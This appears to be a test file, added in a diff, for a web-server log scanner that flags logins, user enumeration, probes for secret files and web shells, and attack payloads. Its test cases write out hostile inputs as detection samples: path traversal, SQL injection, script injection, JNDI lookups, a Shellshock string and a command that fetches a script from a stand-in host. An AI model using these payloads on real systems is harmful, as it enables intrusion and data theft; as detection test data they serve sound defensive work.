@@ -1,0 +1,257 @@
+import { describe, expect, it } from 'vitest';
+import { KnownAgents } from '../../../../src/scan/behaviour/known-agents.ts';
+import { type SeenRequest, signsOf } from '../../../../src/scan/behaviour/signs-of-request.ts';
+import { factsOf } from '../../../../src/scan/behaviour/target-facts.ts';
+
+interface Asked extends Partial<SeenRequest> {
+  readonly agent?: string;
+}
+
+/** `sign what`, or `sign` alone, of a request: by default a GET answered 404. */
+function signs(target: string, { agent = 'Mozilla/5.0', ...rest }: Asked = {}): string[] {
+  const request: SeenRequest = {
+    method: 'GET',
+    target,
+    request: '',
+    status: 404,
+    sizeBytes: 512,
+    referer: '-',
+    site: 'alice.example',
+    ...rest,
+  };
+  return signsOf(request, factsOf(target), new KnownAgents().factsOf(agent)).map(({ sign, what }) => `${sign} ${what}`);
+}
+
+const post = (target: string, status = 200): string[] => signs(target, { method: 'POST', status });
+
+describe('ordinary requests', () => {
+  it.each([
+    ['/'],
+    ['/wp-content/uploads/2024/missing.jpg'],
+    ['/style.css?ver=6.4.2'],
+    ['/a-page-that-is-gone/'],
+    ['/?s=credit+union+and+select+accounts'],
+    ['/images/{{item.image}}'],
+    ['/javascript:void(0)'],
+    ['/a/../../b/picture.png'],
+    ['/blog/what-is-powershell-and-bin-shells/'],
+    ['/bin/shop/index'],
+    ['/?_=1795329585123'],
+    ['/product/?utm_source=x&fbclid=IwAR0abcDEF123'],
+    ['/.well-known/acme-challenge/x7f3k9'],
+    ['/wp-json/wp/v2/users/me'],
+    ['/b\\xc3\\xbccher/'],
+    ['/search?q=o%27brien'],
+    ['/robots.txt'],
+  ])('say nothing: %s', (target) => {
+    expect(signs(target)).toEqual([]);
+  });
+
+  it('say nothing where scripts answer', () => {
+    expect(signs('/index.php?a=1', { status: 200 })).toEqual([]);
+    expect(signs('/wp-login.php', { status: 200 })).toEqual([]);
+    expect(signs('/xmlrpc.php', { status: 405 })).toEqual([]);
+    expect(post('/wp-admin/admin-ajax.php')).toEqual([]);
+    expect(post('/wp-cron.php?doing_wp_cron=1795329585.1234')).toEqual([]);
+    expect(signs('/files/', { method: 'PROPFIND', status: 207 })).toEqual([]);
+  });
+
+  it.each([
+    ['curl/8.5.0'],
+    ['python-requests/2.31'],
+    ['Go-http-client/1.1'],
+    ['okhttp/4.9'],
+    ['Java/17'],
+    ['Wget/1.21'],
+    ['Mozilla/5.0 (X11; curl)'],
+  ])('say nothing of a general library: %s', (agent) => {
+    expect(signs('/', { agent, status: 200 })).toEqual([]);
+  });
+});
+
+describe('logins', () => {
+  it.each([['/wp-login.php'], ['//wp-login.php'], ['/WP-login.php/'], ['/%77p-login.php'], ['/wp-login.php?action=login']])(
+    'are %s',
+    (target) => {
+      expect(post(target, 403)).toEqual(['login /wp-login.php']);
+    },
+  );
+
+  it('may lie in a folder', () => {
+    expect(post('/blog/wp-login.php', 302)).toEqual(['login /blog/wp-login.php']);
+  });
+
+  it('are not the password of a post, nor a good-bye', () => {
+    expect(post('/wp-login.php?action=postpass', 302)).toEqual([]);
+    expect(post('/wp-login.php?action=logout', 302)).toEqual([]);
+  });
+
+  it('by XML-RPC leave Jetpack out', () => {
+    expect(post('//xmlrpc.php', 301)).toEqual(['xmlrpc /xmlrpc.php']);
+    expect(post('/xmlrpc.php?for=jetpack&token=x')).toEqual([]);
+    expect(post('/xmlrpc.php?for=jetpackx')).toEqual(['xmlrpc /xmlrpc.php']);
+  });
+});
+
+describe('user enumeration', () => {
+  it.each([
+    ['/?author=1', '/'],
+    ['/blog/?x=1&author=23', '/blog'],
+    ['/?%61uthor=1', '/'],
+    ['/index.php?author=2', '/index.php'],
+    ['/wp-json/wp/v2/users', '/wp-json/wp/v2/users'],
+    ['/wp-json/wp/v2/users/1', '/wp-json/wp/v2/users/1'],
+    ['/?rest_route=/wp/v2/users', '/'],
+    ['/?rest_route=%2Fwp%2Fv2%2FUsers%2F', '/'],
+  ])('is %s', (target, what) => {
+    expect(signs(target, { status: 301 })).toEqual([`user-enumeration ${what}`]);
+  });
+
+  it.each([['/?author=alice'], ['/edit.php?author=1'], ['/wp-json/wp/v2/posts']])('is not %s', (target) => {
+    expect(signs(target, { status: 200 })).toEqual([]);
+  });
+});
+
+describe('scripts and secrets', () => {
+  it.each([['/x.php'], ['/old/upload.phtml'], ['/a.aspx'], ['/wp-content/plugins/x/readme.txt'], ['/ckeditor/x'], ['/evil.php.suspected']])(
+    'a script that is missing: %s',
+    (target) => {
+      expect(signs(target)).toEqual([`missing-script ${target}`]);
+    },
+  );
+
+  it('are missing with any refusal', () => {
+    for (const status of [400, 403, 404, 406, 410, 500]) expect(signs('/x.php', { status })).toHaveLength(1);
+    for (const status of [200, 301, 302, 401, 405, 429, 503]) expect(signs('/x.php', { status })).toHaveLength(0);
+  });
+
+  it.each([
+    ['/.env'],
+    ['/api/.env.production'],
+    ['/.git/config'],
+    ['/wp-config.php.bak'],
+    ['/wp-config.old'],
+    ['/dump.sql'],
+    ['/db/backup.sql.gz'],
+    ['/.aws/credentials'],
+    ['/config.php~'],
+  ])('a secret: %s', (target) => {
+    expect(signs(target, { status: 301 })).toEqual([`secret ${target}`]);
+    expect(signs(target, { status: 200 })).toEqual([`secret ${target}`, `secret-answered ${target}`]);
+  });
+
+  it('a secret without a body was not given away', () => {
+    expect(signs('/.env', { status: 200, sizeBytes: 0 })).toEqual(['secret /.env']);
+    expect(signs('/.env', { status: 200, sizeBytes: null })).toEqual(['secret /.env']);
+    expect(signs('/.env', { status: 200, method: 'HEAD' })).toEqual(['secret /.env']);
+    expect(signs('/wp-config.php', { status: 200 })).toEqual([]);
+  });
+
+  it('a web shell', () => {
+    expect(signs('/wp-content/alfa.php', { status: 200 })).toEqual(['shell-answered /wp-content/alfa.php']);
+    expect(signs('/wso.php', { status: 301 })).toEqual(['shell-answered /wso.php']);
+    expect(signs('/wso.php', { status: 301, sizeBytes: 0 })).toEqual([]);
+    expect(signs('/alfa.html', { status: 200 })).toEqual([]);
+  });
+});
+
+describe('payloads', () => {
+  it.each([
+    ['/?file=../../../etc/passwd', 'traversal'],
+    ['/cgi-bin/%2e%2e/%2e%2e/bin/sh', 'traversal'],
+    ['/x/..%2f..%2fwin.ini', 'traversal'],
+    ['/?id=1%20UNION%20ALL%20SELECT%20NULL', 'sql'],
+    ['/?id=1/**/union/**/select/**/1,2', 'sql'],
+    ['/?id=1+and+1=1', 'sql'],
+    ["/?u='%20or%20'1'='1", 'sql'],
+    ['/?id=1%2520union%2520select%25201', 'sql'],
+    ['/?q=%3Cscript%3Ealert(1)', 'script'],
+    ['/?x=${jndi:ldap://x.example/a}', 'jndi'],
+    ['/?x=%24%7Bjndi:ldap', 'jndi'],
+    ['/?n={{7*7}}', 'template'],
+    ['/?page=php://input', 'php-wrapper'],
+    ['/?c=;wget http://x.example/a.sh', 'command'],
+    ['/?c=|id|', 'command'],
+    ['/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', 'known hole: PHPUnit'],
+    ['/boaform/admin/formLogin', 'known hole: home router'],
+    ['/index.php?s=/Index/\\\\think\\\\app/invokefunction', 'known hole: ThinkPHP'],
+    ['/_ignition/execute-solution', 'known hole: Laravel'],
+    ['/solr/admin/info/system', 'known hole: Solr'],
+    ['/actuator/env', 'known hole: Spring'],
+    ['/manager/html', 'known hole: Tomcat'],
+    ['/HNAP1/', 'known hole: home router'],
+  ])('%s', (target, what) => {
+    expect(signs(target)).toContain(`payload ${what}`);
+  });
+
+  it('leave software alone that answers', () => {
+    for (const target of ['/solr/core/select', '/manager/html', '/owa/auth/logon.aspx', '/actuator/env'])
+      expect(signs(target, { status: 200 })).toEqual([]);
+  });
+
+  it('may stand in user agent and referer', () => {
+    expect(signs('/', { agent: '${jndi:ldap://x}', status: 200 })).toEqual(['payload jndi in user agent']);
+    expect(signs('/', { agent: '() { :; }; /bin/bash -c id', status: 200 })).toEqual(['payload command in user agent']);
+    expect(signs('/', { referer: '${jndi:dns://x}', status: 200 })).toEqual(['payload jndi in referer']);
+  });
+
+  it('a method that nobody uses', () => {
+    expect(signs('/', { method: 'TRACK', status: 405 })).toEqual(['payload trace method']);
+  });
+
+  it('take no longer with hostile length', () => {
+    for (const piece of ['/*', "' or ", '%25', '../', '${', 'union select ', '\\x', 'wget -a '])
+      expect(Array.isArray(signs(`/?${piece.repeat(9000)}`))).toBe(true);
+  });
+});
+
+describe('other signs', () => {
+  it.each([
+    ['sqlmap/1.8#stable (https://sqlmap.org)', 'attack-tool: sqlmap'],
+    ['Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org)', 'scanner: nmap scripting engine'],
+    ['Mozilla/5.0 zgrab/0.x', 'scanner: zgrab'],
+    ['WPScan v3.8', 'attack-tool: wpscan'],
+    ['Mozilla/5.0 (compatible; MJ12bot/v1.4.8)', 'scraper: mj12bot'],
+  ])('a bad agent: %s', (agent, what) => {
+    expect(signs('/', { agent, status: 200 })).toEqual([`bad-agent ${what}`]);
+  });
+
+  it.each([['/?8301245577'], ['/shop/?x7f3k9q2'], ['/?QKDXZ=PWMRA']])('a query past every cache: %s', (target) => {
+    expect(signs(target, { status: 200 })).toHaveLength(1);
+    expect(signs(target, { status: 200 })[0]).toMatch(/^cache-buster /);
+  });
+
+  it.each([
+    ['\\x16\\x03\\x01\\x02', 'TLS on a plain port'],
+    ['SSH-2.0-Go', 'SSH'],
+    ['\\x03\\x00\\x00/*\\xE0', 'remote desktop'],
+    ['GARBAGE', 'no HTTP request'],
+  ])('something else than HTTP: %s', (request, what) => {
+    expect(signs('', { method: '', request, status: 400 })).toEqual([`not-web ${what}`]);
+  });
+
+  it('nothing that was received is nothing', () => {
+    expect(signs('', { method: '', request: '-', status: 400 })).toEqual([]);
+    expect(signs('', { method: '', request: '-', status: 408 })).toEqual(['slow-request no request']);
+  });
+
+  it('a search for a proxy', () => {
+    expect(signs('http://other.example/', { status: 200 })).toEqual(['not-web proxy request']);
+    expect(signs('other.example:443', { method: 'CONNECT', status: 405 })).toEqual(['not-web proxy request']);
+    expect(signs('http://www.alice.example/', { status: 200 })).toEqual([]);
+    expect(signs('/', { method: 'ABCD', status: 400 })).toEqual(['not-web unknown method']);
+  });
+});
+
+describe('attacks that are made of ordinary letters', () => {
+  it.each([
+    ['/?f=/etc/passwd'],
+    ['/proc/self/environ'],
+    ['/?x=allow_url_include'],
+    ['/?t=information_schema.tables'],
+    ['/?f=/bin/sh'],
+    ['/?x=document.cookie'],
+  ])('are found all the same: %s', (target) => {
+    expect(signs(target, { status: 200 })[0]).toMatch(/^payload /);
+  });
+});
